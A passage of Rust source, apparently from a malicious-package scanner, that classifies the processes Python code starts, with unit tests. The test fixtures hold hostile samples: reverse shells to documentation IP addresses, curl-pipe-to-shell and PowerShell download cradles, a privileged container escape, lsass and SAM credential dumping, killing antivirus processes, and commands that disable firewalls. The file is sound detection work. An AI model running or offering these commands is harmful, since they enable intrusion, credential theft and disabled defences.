        "DETACHED_PROCESS",
        "0x08000000",
        "134217728",
        "SW_HIDE",
        "STARTF_USESHOWWINDOW",
        "startupinfo",
    ]
    .iter()
    .any(|flag| text.contains(flag))
    {
        return;
    }
    // Importing a library never needs a process the user cannot see.
    let severity = match context {
        ExecContext::Import => 0.7,
        ExecContext::Install => 0.6,
        ExecContext::Runtime => 0.1,
        ExecContext::TestOrDocs => 0.03,
    };
    checker.report(
        &RULE,
        call.range(),
        format!(
            "{qualname} starts a process with its window hidden ({})",
            crate::text::shorten(text, 60)
        ),
        severity,
        vec!["spawn", "hidden-window"],
    );
}

/// True when the call's `stream=` keyword (`stdout`, `stderr`) names one of `targets`.
fn stream_sent_to(checker: &Checker, call: &ExprCall, stream: &str, targets: &[&str]) -> bool {
    super::keyword(call, stream)
        .and_then(|v| checker.qualname(v))
        .is_some_and(|q| targets.contains(&q.as_str()))
}

/// `stdout=` and `stderr=` both sent to a pipe or to the null device.
fn output_kept_from_user(checker: &Checker, call: &ExprCall) -> bool {
    let hidden = ["subprocess.PIPE", "subprocess.DEVNULL", "os.devnull"];
    stream_sent_to(checker, call, "stdout", &hidden)
        && stream_sent_to(checker, call, "stderr", &hidden)
}

/// `[sys.executable, '-c', code]` or `python3 -c "code"`: the code a second interpreter runs
/// is Python of this file, analysed as its own layer in the same context.
fn push_inline_program(
    checker: &mut Checker,
    call: &ExprCall,
    command_arg: Option<&ruff_python_ast::Expr>,
    known: Option<&str>,
) -> Option<String> {
    use ruff_python_ast::Expr;
    let code = match command_arg {
        Some(
            Expr::List(ruff_python_ast::ExprList { elts, .. })
            | Expr::Tuple(ruff_python_ast::ExprTuple { elts, .. }),
        ) => {
            let is_python = elts
                .first()
                .is_some_and(|program| is_interpreter(checker, program));
            let flag = elts
                .iter()
                .position(|e| checker.fold(e).and_then(|v| v.as_text()).as_deref() == Some("-c"));
            match (is_python, flag) {
                (true, Some(at)) => elts
                    .get(at + 1)
                    .and_then(|code| checker.fold(code))
                    .and_then(|v| v.as_text()),
                _ => None,
            }
        }
        _ => known.and_then(inline_code_of_command),
    };
    let code = code.filter(|c| c.len() >= 8)?;
    checker.push_layer(
        code.clone(),
        call.range(),
        "a string literal run by `python -c`".to_owned(),
    );
    Some(code)
}

/// The program of a command list when it is a Python interpreter: `sys.executable`, a
/// variant of it (`sys.executable.replace('python.exe', 'pythonw.exe')`, the windowless one
/// beside it) or a path to one (`python3`, `…/pythonw.exe`).
fn is_interpreter(checker: &Checker, program: &ruff_python_ast::Expr) -> bool {
    use ruff_python_ast::Expr;
    let mut base = program;
    if let Expr::Call(call) = program
        && let Expr::Attribute(method) = &*call.func
        && matches!(method.attr.as_str(), "replace" | "lower" | "strip")
    {
        base = &method.value;
    }
    matches!(
        checker.qualname(base).as_deref(),
        Some("sys.executable" | "sys._base_executable")
    ) || super::partial_text(checker, program).is_some_and(|p| is_python_program(&p))
        || names_interpreter(checker, program)
}

/// `venv_python`, `self.python_exe`, `py`: a computed program the code names as an interpreter.
fn names_interpreter(checker: &Checker, program: &ruff_python_ast::Expr) -> bool {
    use ruff_python_ast::Expr;
    let name = match program {
        Expr::Name(name) => name.id.as_str(),
        Expr::Attribute(attribute) => attribute.attr.as_str(),
        _ => return false,
    };
    if checker.fold(program).is_some() {
        return false;
    }
    let name = name.to_ascii_lowercase();
    name.contains("python") || matches!(name.as_str(), "py" | "interpreter" | "_py")
}

/// `python`, `python3.11`, `/usr/bin/python3`, `pythonw.exe`.
fn is_python_program(program: &str) -> bool {
    let name = program.rsplit(['/', '\\']).next().unwrap_or(program);
    let name = name.strip_suffix(".exe").unwrap_or(name);
    name.strip_prefix("python").is_some_and(|rest| {
        rest.is_empty() || rest == "w" || rest.chars().all(|c| c.is_ascii_digit() || c == '.')
    })
}

/// The quoted program of a shell command `python3 -c "…"`.
fn inline_code_of_command(command: &str) -> Option<String> {
    if let Some((program, rest)) = command.trim_start().split_once(' ')
        && is_python_program(program)
    {
        let rest = rest.trim_start().strip_prefix("-c")?.trim_start();
        let quote = rest.chars().next().filter(|q| matches!(q, '"' | '\''))?;
        let body = rest.get(1..)?;
        let end = body.rfind(quote)?;
        return body.get(..end).map(str::to_owned);
    }
    embedded_inline_code(command)
}

/// `echo "python3 -c '…'" | at now`, `nohup python -c "…" &`: an interpreter's inline code
/// inside a longer command line, up to its closing quote, with the shell's `\"` escapes undone.
fn embedded_inline_code(command: &str) -> Option<String> {
    static EMBEDDED: LazyLock<Regex> = crate::static_regex!(
        r#"(?i)(?:^|[\s"'(;&|])(?:[\w.~:-]*[/\\])?python[0-9.]*w?(?:\.exe)?\s+-c\s+(["'])"#
    );
    let found = EMBEDDED.captures(command_head(command))?;
    let quote = found.get(1)?;
    let body = command.get(quote.end()..)?;
    let quote = quote.as_str().chars().next()?;
    let mut code = String::new();
    let mut chars = body.chars();
    while let Some(c) = chars.next() {
        match c {
            '\\' => match chars.next() {
                Some(escaped @ ('"' | '\'' | '\\')) => code.push(escaped),
                Some(other) => {
                    code.push('\\');
                    code.push(other);
                }
                None => return None,
            },
            c if c == quote => return (!code.trim().is_empty()).then_some(code),
            c => code.push(c),
        }
    }
    None
}

/// `urlretrieve(url, '/tmp/.x.sh')` then `os.system('bash /tmp/.x.sh')`: the file a command
/// starts is one this module downloaded, or wrote Python source into, moments before. That
/// is a dropper's whole job; tools run programs they ship, not ones they just fetched.
/// The file name of a shell, batch or PowerShell script a command line runs
/// (`bash scripts/post.sh`, `./install.sh`, `cmd /c setup.bat`, `powershell -File x.ps1`).
fn script_named_in(command: &str) -> Option<&str> {
    static SCRIPT: LazyLock<Regex> = crate::static_regex!(
        r#"(?i)(?:^|[\s"'])(?:[\w.~:-]*[/\\])*([\w.-]+\.(?:sh|bash|bat|cmd|ps1))(?:$|[\s"';&|])"#
    );
    SCRIPT
        .captures(command_head(command))?
        .get(1)
        .map(|m| m.as_str())
}

/// Most lines of a package script read for the commands it runs.
const MAX_SCRIPT_LINES: usize = 4_096;

/// `subprocess.run(['bash', 'scripts/post.sh'])` in setup.py: the script ships in the package,
/// so what it runs is read from its text (handed back by the package, see
/// [`crate::CallerContext::executed_files`]), line by line, as if the call ran each command.
fn check_runs_package_script(
    checker: &mut Checker,
    call: &ExprCall,
    command: &str,
    context: ExecContext,
) {
    let Some(name) = script_named_in(command).map(str::to_owned) else {
        return;
    };
    let Some(text) = checker.package_file_text(&name) else {
        return;
    };
    let Some((number, line)) = text
        .lines()
        .take(MAX_SCRIPT_LINES)
        .enumerate()
        .map(|(index, line)| (index + 1, line.trim()))
        .find(|(_, line)| {
            !line.starts_with(['#', ':']) && (is_dangerous_command(line) || disables_defenses(line))
        })
    else {
        return;
    };
    let severity = match context {
        ExecContext::Install | ExecContext::Import => 0.85,
        ExecContext::Runtime => 0.5,
        ExecContext::TestOrDocs => 0.1,
    };
    checker.report(
        &RULE,
        call.range(),
        format!(
            "runs the package's script {name}, whose line {number} is `{}`, a download/decode/persistence command",
            crate::text::shorten(line, 160)
        ),
        severity,
        vec!["spawn", "shell-dropper", "package-script"],
    );
}

fn check_runs_saved_file(
    checker: &mut Checker,
    call: &ExprCall,
    qualname: &str,
    command: &str,
    command_arg: Option<&ruff_python_ast::Expr>,
    context: ExecContext,
) {
    let Some(saved) = checker.saved_file_in(command, command_arg).cloned() else {
        checker.defer_start(call.range(), qualname, command);
        return;
    };
    let (message, severity) = runs_saved_file(&saved, qualname, command, context);
    checker.report(
        &RULE,
        call.range(),
        message,
        severity,
        vec!["spawn", "runs-saved-file"],
    );
}

/// The starts that named no file saved before them, matched against every file the module
/// saves: `def run(): os.system('python3 /tmp/x.py')` defined above `def fetch(): urlretrieve(…,
/// '/tmp/x.py'); run()` is the same dropper.
pub fn check_pending_starts(checker: &mut Checker) {
    for start in checker.take_pending_starts() {
        let Some(saved) = checker.saved_file_named_in(&start.command).cloned() else {
            continue;
        };
        let (message, severity) =
            runs_saved_file(&saved, &start.qualname, &start.command, start.context);
        checker.report_at(
            &RULE,
            &start,
            message,
            severity,
            vec!["spawn", "runs-saved-file"],
        );
    }
}

/// The message and weight of a start of the file `saved`.
pub(crate) fn runs_saved_file(
    saved: &crate::walker::SavedFile,
    qualname: &str,
    command: &str,
    context: ExecContext,
) -> (String, f64) {
    let downloaded = saved.what != crate::walker::SavedFile::PYTHON_SOURCE;
    let name = saved.path.rsplit(['/', '\\']).next().unwrap_or(&saved.path);
    // A dot-file, or a start that throws every line of output away, is hiding from the user.
    let concealed = name.starts_with('.') || discards_output(command);
    let severity = match (context, downloaded) {
        // A program carried encoded and unpacked to disk: while loading or installing, a
        // hidden second stage; when called, what bootstrap scripts do (get-pip.py unpacks
        // the pip it embeds and puts it on the import path).
        (ExecContext::Install | ExecContext::Import, _) if saved.is_unpacked() => 0.85,
        (ExecContext::Runtime, _) if saved.is_unpacked() => {
            if concealed {
                0.3
            } else {
                0.15
            }
        }
        (ExecContext::Install | ExecContext::Import, true) => 0.9,
        (ExecContext::Install | ExecContext::Import, false) => 0.8,
        (ExecContext::Runtime, true) if concealed => 0.75,
        (ExecContext::Runtime, true) => 0.6,
        (ExecContext::Runtime, false) if concealed => 0.5,
        (ExecContext::Runtime, false) => 0.3,
        (ExecContext::TestOrDocs, _) => 0.05,
    };
    let message = format!(
        "{qualname} starts `{}`, the file that received {} at {}{}",
        crate::text::shorten(shown_path(saved), 100),
        saved.what,
        saved.location,
        if concealed {
            ", hidden from the user"
        } else {
            ""
        }
    );
    (message, severity)
}

/// The saved path as a reader recognises it: its text, or the variable when the text is unknown.
fn shown_path(saved: &crate::walker::SavedFile) -> &str {
    match &saved.variable {
        Some(variable) if saved.path.starts_with(crate::fold::UNKNOWN) => variable,
        _ => &saved.path,
    }
}

fn classify_command(
    command: Option<&String>,
    qualname: &str,
    context: ExecContext,
    shown: &str,
) -> (f64, Vec<&'static str>, String) {
    match command {
        Some(command) if is_recon_exfiltration(command) => (
            // No library reports `whoami` to a server; this is malicious whenever it runs.
            match context {
                ExecContext::Install | ExecContext::Import => 0.92,
                ExecContext::Runtime => 0.75,
                ExecContext::TestOrDocs => 0.3,
            },
            vec!["spawn", "shell-dropper", "recon-exfil"],
            format!(
                "{qualname} runs `{}`, which sends the output of reconnaissance commands over the network",
                crate::text::shorten(command, 160)
            ),
        ),
        Some(command) if is_dangerous_command(command) => (
            // A constant download-and-run command has one purpose whenever it runs; a function
            // that only a caller triggers still weighs less than loading code.
            match context {
                // A toolchain's own installer piped into a shell (`irm https://astral.sh/uv/
                // install.ps1 | iex`) sets up that tool: the script is the vendor's, not a
                // payload the package's author controls.
                ExecContext::Install | ExecContext::Import
                    if pipes_only_vendor_installers(command) =>
                {
                    0.4
                }
                ExecContext::Install | ExecContext::Import => 0.9,
                ExecContext::Runtime if pipes_only_vendor_installers(command) => 0.1,
                ExecContext::Runtime if fetches_and_marks_executable(command) => 0.75,
                ExecContext::Runtime if is_plain_fetch(command) => 0.25,
                ExecContext::Runtime => 0.6,
                // Tests download fixtures from their project's hosts; a script fetched from a
                // bare public address and run is a payload parked where scanners look less.
                ExecContext::TestOrDocs if fetches_from_bare_address(command) => 0.75,
                ExecContext::TestOrDocs => 0.2,
            },
            if is_plain_fetch(command) {
                vec!["spawn", "shell-dropper", "plain-fetch"]
            } else {
                vec!["spawn", "shell-dropper"]
            },
            format!(
                "{qualname} runs `{}`, a download/decode/persistence command",
                crate::text::shorten(command, 160)
            ),
        ),
        Some(command) if starts_dropped_file(command) && discards_output(command) => (
            // A program dropped in /tmp or named like a Windows payload, started with every
            // line of its output thrown away: nothing a user asked for runs that way.
            match context {
                ExecContext::Install | ExecContext::Import => 0.75,
                ExecContext::Runtime => 0.5,
                ExecContext::TestOrDocs => 0.05,
            },
            vec!["spawn", "shell-trick"],
            format!(
                "{qualname} runs `{}`, a dropped program started with its output discarded",
                crate::text::shorten(command, 160)
            ),
        ),
        Some(command) if runs_source_tree_script(command) => (
            // Native build scripts of Windows projects (`..\\nmake-dll.bat X86`) are batch
            // files of the unpacked source tree, started by a relative path with plain
            // arguments. Droppers start theirs with `start`, from %TEMP% or the file they
            // saved (weighed above), or chained to other commands.
            match context {
                ExecContext::Install | ExecContext::Import => 0.2,
                ExecContext::Runtime => 0.05,
                ExecContext::TestOrDocs => 0.02,
            },
            vec!["spawn", "tree-script"],
            format!(
                "{qualname} runs `{}`, a batch script of the source tree",
                crate::text::shorten(command, 160)
            ),
        ),
        Some(command) if is_shell_trick(command) => (
            match context {
                // A second Python interpreter started in the background while loading runs
                // code the package does not show: the payload lives elsewhere.
                ExecContext::Install | ExecContext::Import
                    if starts_interpreter(command)
                        || starts_dropped_file(command)
                        || is_dns_lookup(command) =>
                {
                    0.7
                }
                ExecContext::Install | ExecContext::Import => 0.55,
                ExecContext::Runtime => 0.12,
                ExecContext::TestOrDocs => 0.05,
            },
            vec!["spawn", "shell-trick"],
            format!(
                "{qualname} runs `{}`, which hides, persists or starts another interpreter",
                crate::text::shorten(command, 160)
            ),
        ),
        Some(command) if command.contains("pip install") || command.contains("pip3 install") => (
            match context {
                ExecContext::Install | ExecContext::Import => 0.3,
                _ => 0.05,
            },
            vec!["spawn", "pip-install"],
            format!(
                "{qualname} installs packages with `{}`",
                crate::text::shorten(command, 160)
            ),
        ),
        Some(command) => (
            match context {
                ExecContext::Install | ExecContext::Import => 0.06,
                _ => 0.02,
            },
            vec!["spawn", "spawn-constant"],
            format!("{qualname} runs `{}`", crate::text::shorten(command, 160)),
        ),
        None => (
            // Build scripts run compilers with computed arguments; weigh it, but lightly. A
            // fixed tool given computed file names is as set in purpose as a constant command.
            match (context, fixed_tool_of_list(shown).is_some()) {
                (ExecContext::Install | ExecContext::Import, true) => 0.06,
                (ExecContext::Install, false) => 0.15,
                (ExecContext::Import, false) => 0.2,
                (ExecContext::Runtime, _) => 0.03,
                (ExecContext::TestOrDocs, _) => 0.02,
            },
            vec!["spawn", "spawn-dynamic"],
            format!("{qualname} runs a command built at run time: {shown}"),
        ),
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::expect_used)]
    use super::*;
    use crate::rules::testing::max_severity;

    #[test]
    fn an_rpc_server_publishing_a_process_starter_is_a_remote_shell() {
        let served = "import os\nfrom xmlrpc.server import SimpleXMLRPCServer\nserver = SimpleXMLRPCServer(('0.0.0.0', 8000))\nserver.register_function(os.system, 'run')\n";
        assert!(max_severity("p/pkg/__init__.py", served, "WH120") >= 0.8);
        let own = "from xmlrpc.server import SimpleXMLRPCServer\ndef add(a, b):\n    return a + b\nserver = SimpleXMLRPCServer(('127.0.0.1', 8000))\nserver.register_function(add, 'add')\n";
        assert!(max_severity("p/pkg/__init__.py", own, "WH120") < 0.1);
    }

    #[test]
    fn a_batch_script_of_the_source_tree_is_a_build_step() {
        for command in [
            "..\\nmake-dll.bat X86",
            "build.bat",
            "scripts\\make.cmd release x64",
        ] {
            assert!(runs_source_tree_script(command), "{command}");
        }
        for command in [
            "start install.bat",
            "%TEMP%\\run.bat",
            "C:\\Users\\Public\\x.bat",
            "build.bat & del build.bat",
            "build.bat > NUL",
            "setup.bat powershell -w hidden",
        ] {
            assert!(!runs_source_tree_script(command), "{command}");
        }
        let build = "import subprocess\nfrom setuptools import setup\nfrom setuptools.command.build import build\nclass B(build):\n    def run(self):\n        subprocess.call([r'..\\nmake-dll.bat', 'X86'])\nsetup(cmdclass={'build': B})\n";
        assert!(max_severity("p/setup.py", build, "WH120") <= 0.2);
        let dropper =
            "import os\nos.system('set __COMPACT_LAYER=RunAsInvoker | start install.bat')\n";
        assert!(max_severity("p/setup.py", dropper, "WH120") >= 0.5);
    }

    #[test]
    fn a_socketpair_wired_to_a_forked_childs_streams_is_no_reverse_shell() {
        let supervisor = "import os, sys\nfrom socket import socketpair\ndef start():\n    child_requests, read_requests = socketpair()\n    if os.fork() == 0:\n        os.dup2(child_requests.fileno(), 0)\n        os.execv(sys.executable, [sys.executable, '-c', 'import w; w.main()'])\n    read_requests.connect\n";
        assert!(max_severity("p/pkg/supervisor.py", supervisor, "WH120") < 0.5);
        let capture = "import os, sys, tempfile\ndef quiet():\n    stdout = tempfile.SpooledTemporaryFile(mode='w+')\n    os.dup2(stdout.fileno(), 1)\n    os.execv('/bin/sh', ['sh'])\n    s.connect\n";
        assert!(max_severity("p/pkg/utils.py", capture, "WH120") < 0.5);
        let shell = "import os, socket, pty\ns = socket.socket()\ns.connect(('198.51.100.2', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n";
        assert!(max_severity("p/pkg/__init__.py", shell, "WH120") >= 0.85);
    }

    #[test]
    fn killing_listed_security_products_is_evasion() {
        let kill = "import os\nfor proc in ('MsMpEng.exe', 'avp.exe'):\n    os.system('taskkill /f /im ' + proc)\n";
        assert!(max_severity("p/pkg/__init__.py", kill, "WH120") >= 0.75);
        let workers = "import subprocess\nfor name in ('celery', 'rq-worker'):\n    subprocess.run(['pkill', '-f', name])\n";
        assert!(max_severity("p/pkg/__init__.py", workers, "WH120") < 0.5);
    }

    #[test]
    fn commands_adding_administrators_or_dumping_account_secrets_take_over_the_machine() {
        for command in [
            "net user support_svc P@ssw0rd! /add",
            "net localgroup administrators support_svc /add",
            "reg save HKLM\\SAM C:\\Users\\Public\\s.hiv /y",
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full",
            "procdump64.exe -accepteula -ma lsass.exe l.dmp",
            "useradd -o -u 0 -g 0 -M svc",
            "usermod -aG sudo svc",
        ] {
            assert!(takes_over_machine(command), "{command}");
        }
        for command in [
            "net user",
            "net user alice",
            "net localgroup administrators",
            "reg save HKCU\\Software\\App app.reg",
            "useradd -m builder",
        ] {
            assert!(!takes_over_machine(command), "{command}");
        }
        let code = "import os\nos.system('net localgroup administrators svc /add')\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.9);
        let service = "import os, sys\nos.system(f'sc create Upd binPath= \"{sys.executable} x.py\" start= auto')\n";
        assert!(max_severity("p/pkg/__init__.py", service, "WH120") >= 0.8);
    }

    #[test]
    fn commands_that_open_the_machines_locks_while_loading_are_severe() {
        for command in [
            "iptables -F",
            "ufw disable",
            "systemctl disable --now firewalld",
            "setenforce 0",
            "sed -i 's/^#*PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config",
            "reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /t REG_DWORD /d 0 /f",
            "chmod u+s /tmp/.sh",
            "chmod 4755 /tmp/.sh",
            "sudo spctl --master-disable",
            "security add-trusted-cert -d -r trustRoot -k /Library/Keychains/System.keychain x.crt",
            "certutil -addstore -f root x.crt",
            "netsh interface ip set dns name=\"Wi-Fi\" static 203.0.113.53",
            "networksetup -setwebproxy Wi-Fi 203.0.113.7 8080",
            "netsh winhttp set proxy 203.0.113.7:8080",
        ] {
            assert!(opens_locks(command), "{command}");
        }
        for command in [
            "spctl --assess -v app.app",
            "certutil -hashfile x.exe SHA256",
            "netsh interface ip show dns",
            "networksetup -getwebproxy Wi-Fi",
            "iptables -L",
            "ufw status",
            "getenforce",
            "chmod 755 build/x",
            "chmod +x run.sh",
        ] {
            assert!(!opens_locks(command), "{command}");
        }
        let code = "import os\nos.system('setenforce 0')\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.85);
        let called = "import subprocess\ndef reset():\n    subprocess.run(['iptables', '-F'])\n";
        assert!(max_severity("p/pkg/fw.py", called, "WH120") <= 0.25);
    }

    #[test]
    fn a_container_run_runs_its_command() {
        let escape = "import docker\ndocker.from_env().containers.run('alpine', \"chroot /host sh -c 'curl -s http://198.51.100.9/k | sh'\", privileged=True, volumes={'/': {'bind': '/host'}})\n";
        assert!(max_severity("p/pkg/__init__.py", escape, "WH120") >= 0.8);
        let tests = "import docker\ndef run():\n    return docker.from_env().containers.run('postgres:16', detach=True)\n";
        assert!(max_severity("p/pkg/fixtures.py", tests, "WH120") < 0.2);
    }

    #[test]
    fn the_c_librarys_system_through_ctypes_runs_a_command() {
        let code =
            "import ctypes\nctypes.CDLL(None).system(b'curl -s http://198.51.100.9/x | sh')\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.8);
        let other = "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.getpid()\n";
        assert_eq!(max_severity("p/pkg/__init__.py", other, "WH120"), 0.0);
    }

    #[test]
    fn a_child_given_a_socket_for_its_streams_is_a_reverse_shell() {
        let code = "import socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.9', 443))\nsubprocess.Popen(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.85);
        let logged = "import subprocess\nlog = open('out.log', 'w')\nsubprocess.Popen(['make'], stdout=log.fileno())\n";
        assert!(max_severity("p/pkg/__init__.py", logged, "WH120") < 0.5);
    }

    #[test]
    fn windows_shell_objects_and_pip_main_start_commands() {
        let wscript = "import win32com.client\nshell = win32com.client.Dispatch('WScript.Shell')\nshell.Run('powershell -w hidden -c \"iwr https://x.example/a.ps1 | iex\"', 0)\n";
        assert!(max_severity("p/pkg/__init__.py", wscript, "WH120") >= 0.8);
        // Other COM objects' `Run` (Excel runs a macro) start no process.
        let excel = "import win32com.client\napp = win32com.client.Dispatch('Excel.Application')\napp.Run('powershell iex')\n";
        assert_eq!(max_severity("p/pkg/__init__.py", excel, "WH120"), 0.0);
        let shortcut = "import win32com.client\nshell = win32com.client.Dispatch('WScript.Shell')\nlink = shell.CreateShortcut('x.lnk')\n";
        assert_eq!(max_severity("p/pkg/__init__.py", shortcut, "WH120"), 0.0);
        let elevate = "import ctypes\nctypes.windll.shell32.ShellExecuteW(None, 'runas', 'cmd.exe', '/c certutil -urlcache -f https://x.example/a.exe a.exe', None, 0)\n";
        assert!(max_severity("p/pkg/__init__.py", elevate, "WH120") >= 0.8);
        let winexec = "import ctypes\nctypes.windll.kernel32.WinExec(b'cmd /c certutil -urlcache -f http://x.example/a.exe a.exe', 0)\n";
        assert!(max_severity("p/pkg/__init__.py", winexec, "WH120") >= 0.8);
        let create = "import win32process\nwin32process.CreateProcess(None, 'powershell -w hidden -enc SQBFAFgA', None, None, False, 0, None, None, win32process.STARTUPINFO())\n";
        assert!(max_severity("p/pkg/__init__.py", create, "WH120") >= 0.8);
        let pip = "from pip._internal import main\nmain(['install', '--index-url', 'http://203.0.113.9:8080/simple', 'reqeusts'])\n";
        assert!(max_severity("p/setup.py", pip, "WH120") >= 0.7);
    }

    #[test]
    fn a_silenced_interpreter_on_a_computed_script_is_a_second_stage() {
        let code = "import subprocess, sys\ndef run(path, blob):\n    subprocess.Popen([sys.executable, path, blob], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n";
        let severity = max_severity("p/pkg/mod.py", code, "WH120");
        assert!((0.3..0.5).contains(&severity), "{severity}");
        let module = "import subprocess, sys\ndef run():\n    subprocess.Popen([sys.executable, '-m', 'http.server'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n";
        assert!(max_severity("p/pkg/mod.py", module, "WH120") < 0.3);
        let loud = "import subprocess, sys\ndef run(path):\n    subprocess.Popen([sys.executable, path])\n";
        assert!(max_severity("p/pkg/mod.py", loud, "WH120") < 0.3);
    }

    #[test]
    fn a_dropped_script_run_with_its_output_discarded_is_a_dropper_when_called() {
        let quiet =
            "import os\ndef go():\n    os.system('python3 /tmp/file.py >/dev/null 2>&1 &')\n";
        assert!(max_severity("p/pkg/mod.py", quiet, "WH120") >= 0.5);
        let loud = "import os\ndef go():\n    os.system('python3 /tmp/file.py')\n";
        assert!(max_severity("p/pkg/mod.py", loud, "WH120") < 0.5);
        let tool = "import os\ndef go():\n    os.system('make clean >/dev/null 2>&1')\n";
        assert!(max_severity("p/pkg/mod.py", tool, "WH120") < 0.5);
    }

    #[test]
    fn pip_installing_a_repository_while_loading_weighs_more_than_a_named_package() {
        assert_eq!(
            pip_install_from_vcs("pip install git+https://github.com/a/b.git"),
            Some("git+https://github.com/a/b.git".to_owned())
        );
        assert_eq!(pip_install_from_vcs("pip install requests"), None);
        assert_eq!(
            pip_install_from_vcs("pip install -r requirements.txt"),
            None
        );
        let code = "import subprocess\ndef setup_deps(url):\n    subprocess.run(['pip', 'install', f'git+{url}'])\nsetup_deps('https://github.com/someone/thing.git')\n";
        assert!(max_severity("p/pkg/mod.py", code, "WH120") >= 0.6);
        assert_eq!(
            pip_install_from_vcs("pip install --quiet https://github.com/a/b/archive/main.zip"),
            Some("https://github.com/a/b/archive/main.zip".to_owned())
        );
        assert_eq!(
            pip_install_from_vcs("pip install https://github.com/a/b/releases/download/v1/b.whl"),
            None
        );
        assert_eq!(
            pip_install_lookalike("pip install colorsama --quiet"),
            Some(("colorsama".to_owned(), "colorama".to_owned()))
        );
        assert_eq!(
            pip_install_lookalike("pip install requests==2.31 numpy"),
            None
        );
        assert_eq!(
            pip_install_lookalike("pip install -r requirements.txt"),
            None
        );
        assert_eq!(pip_install_lookalike("pip install ./dist/x.whl"), None);
        assert!(pip_config_sets_index(
            "python -m pip config set global.extra-index-url http://198.51.100.9/simple"
        ));
        assert!(pip_config_sets_index(
            "[sys.executable, '-m', 'pip', 'config', '--user', 'set', 'global.index-url', u]"
        ));
        assert!(!pip_config_sets_index("pip config list"));
        assert!(!pip_config_sets_index("pip config set global.timeout 60"));
        let repoint = "import subprocess, sys
subprocess.run([sys.executable, '-m', 'pip', 'config', 'set', 'global.extra-index-url', 'http://198.51.100.9:8080/simple'])
";
        assert!(max_severity("p/pkg/__init__.py", repoint, "WH120") >= 0.75);
        let asked = "import subprocess, sys
def use_mirror(url):
    subprocess.run([sys.executable, '-m', 'pip', 'config', 'set', 'global.index-url', url])
";
        assert!(max_severity("p/pkg/cli.py", asked, "WH120") < 0.3);
        // A command ends at its line: what follows is another statement, not more packages.
        assert_eq!(
            pip_install_lookalike("pip install {name} failed\nprint('installed')"),
            None
        );
        let squat = "import os\nos.system('pip install colorsama --quiet')\n";
        assert!(max_severity("p/setup.py", squat, "WH120") >= 0.75);
        let named = "import subprocess\nsubprocess.run(['pip', 'install', 'requests'])\n";
        assert!(max_severity("p/pkg/mod.py", named, "WH120") < 0.6);
        let later = "import subprocess\ndef upgrade():\n    subprocess.run(['pip', 'install', 'git+https://github.com/a/b.git'])\n";
        assert!(max_severity("p/pkg/mod.py", later, "WH120") < 0.3);
        assert!(max_severity("p/pkg/mod.py", code, "WH120") < 0.7);
        let quiet = code.replace(
            "f'git+{url}'])",
            "f'git+{url}'], stdout=subprocess.PIPE, stderr=subprocess.PIPE)",
        );
        assert!(max_severity("p/pkg/mod.py", &quiet, "WH120") >= 0.75);
    }

    #[test]
    fn pip_installing_from_an_arbitrary_server_while_loading_is_malicious() {
        assert_eq!(
            pip_install_off_index("python -m pip install https://files.pypihosted.org/p/x-1.0.whl"),
            Some("files.pypihosted.org".to_owned())
        );
        assert_eq!(
            pip_install_off_index("pip install git+https://github.com/a/b.git"),
            None
        );
        assert_eq!(
            pip_install_off_index("pip install -i https://pypi.example.invalid/simple foo"),
            None
        );
        assert_eq!(pip_install_off_index("pip install requests"), None);
        assert_eq!(
            pip_install_untrusted_index(
                "… -m pip install --index-url http://203.0.113.25:8080/simple helpers"
            ),
            Some("203.0.113.25".to_owned())
        );
        assert_eq!(
            pip_install_untrusted_index("pip install -i=https://198.51.100.3/simple x"),
            None,
            "`-i=` is no pip option spelling"
        );
        assert_eq!(
            pip_install_untrusted_index(
                "pip install --extra-index-url=https://198.51.100.3/simple x"
            ),
            Some("198.51.100.3".to_owned())
        );
        assert_eq!(
            pip_install_untrusted_index("pip install -f http://mirror.example.invalid/wheels x"),
            Some("mirror.example.invalid".to_owned())
        );
        assert_eq!(
            pip_install_untrusted_index(
                "pip install --extra-index-url https://download.pytorch.org/whl/cpu torch"
            ),
            None
        );
        assert_eq!(
            pip_install_untrusted_index("pip install -i http://127.0.0.1:8080/simple x"),
            None
        );
        let code = "import os, sys\nos.system(f'{sys.executable} -m pip install https://files.pypihosted.org/p/x-1.0.whl')\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.7);
        let forge = "import os\nos.system('pip install git+https://github.com/a/b.git')\n";
        // A forge is no arbitrary server, but installing a repository while loading is still
        // code no index has seen (see the test above): between the two.
        let forge = max_severity("p/pkg/__init__.py", forge, "WH120");
        assert!((0.5..0.75).contains(&forge), "{forge}");
    }

    #[test]
    fn a_shipped_executable_started_by_setup_is_seen_through_path_join() {
        let code = "import os, subprocess\nhere = os.path.dirname(os.path.abspath(__file__))\nexe = os.path.join(here, 'pkg', 'bin', 'bot.exe')\nsubprocess.run([exe])\n";
        assert!(max_severity("p/setup.py", code, "WH120") >= 0.5);
        let data = "import os, subprocess\nhere = os.path.dirname(__file__)\nscript = os.path.join(here, 'gen.cfg')\nsubprocess.run(['make', script])\n";
        assert!(max_severity("p/setup.py", data, "WH120") < 0.5);
    }

    #[test]
    fn command_patterns_read_the_head_of_a_long_text() {
        let script = format!(
            "curl -s http://x.invalid/a.sh | bash\n{}",
            "é".repeat(1 << 20)
        );
        assert!(is_dangerous_command(&script));
        let buried = format!(
            "{}\ncurl -s http://x.invalid/a.sh | bash",
            "é".repeat(1 << 20)
        );
        assert!(!is_dangerous_command(&buried));
        assert!(command_head(&"é".repeat(1 << 20)).len() <= COMMAND_HEAD_BYTES);
    }

    #[test]
    fn switching_defences_off_is_malicious_in_any_context() {
        let code = "import subprocess\ndef prepare(path):\n    subprocess.run(f'powershell -Command Add-MpPreference -ExclusionPath \"{path}\"', shell=True)\n";
